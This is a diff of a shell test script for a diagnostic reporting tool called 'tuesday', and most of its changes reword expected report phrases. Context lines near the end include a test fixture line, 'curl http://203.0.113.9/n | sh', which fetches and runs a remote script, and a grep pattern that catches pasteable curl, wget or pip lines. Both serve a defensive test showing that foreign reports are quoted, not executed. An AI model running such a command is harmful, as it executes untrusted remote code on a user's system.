@@ -66,7 +66,7 @@ for section in 'The system' 'The ledger: what it is not' 'Numbers against their 
 	t "the text has: $section" says "^$section"
 done
 t "an area has its light" says '^  bad  *net  '
-t "the status is in the words of the method" says '^  it is  *It is caused by: .*listen'
+t "the status is in the words of the method" says '^  it is  *Most likely cause: .*listen'
 t "limits stand beside a number" says '_per_second.*, bad, .*maybe > .*bad >'
 t "without colour, where nobody looks" harmless
 call "$tuesday" report --replay ill --color always
@@ -104,7 +104,7 @@ t "a page goes to standard output too" shows '</html>'
 # A report in a file, of this machine or of any other.
 "$tuesday" run --replay ill -o json >ill.json 2>/dev/null
 call "$tuesday" report ill.json
-t "a file is read" says '^  it is  *It is caused by: .*listen'
+t "a file is read" says '^  it is  *Most likely cause: .*listen'
 t "and is as bad as it was" ends 2
 # Of what is good without being ruled out, each with the reason that the run gave.
 jq -r '.not_cleared[] | "good \(.check) \(.reason)"' ill.json >reasons
@@ -181,7 +181,7 @@ for check in listen cpu listen; do
 	"$tuesday" run $check --replay ill --state shared >out 2>err
 done
 call "$tuesday" report 3 --state shared
-t "a run is told by one of the same checks, and not by one of others" says 'It is caused by: .*listen'
+t "a run is told by one of the same checks, and not by one of others" says 'Most likely cause: .*listen'
 t "  which says so" says 'the last of the same checks before it'
 t "  as bad as it was" ends 2
 if command -v sqlite3 >/dev/null; then
@@ -249,7 +249,7 @@ t "the next steps of a file are those of the check files here" grep -q '^  tuesd
 t "  and none of its own" lacks 203.0.113.9 next
 t "no line of it can be pasted" sh -c '! grep -q "^ *\(remedy: \)*\(curl\|wget\|pip\)" out'
 t "what no check file here knows is told in its words" says '^  | nobodys says: curl http://203.0.113.9/n | sh$'
-t "so is what would look deeper" tells 'not looked deeper: the report says: run: curl'
+t "so is what would look deeper" tells 'not traced: the report says: run: curl'
 t "and what was not put back" tells 'NOT PUT BACK: the report says: curl'
 sed '/^What is known now/,$d' out >before
 t "no line of it begins as one of ours" lacks '^ *[iI]t is not' before
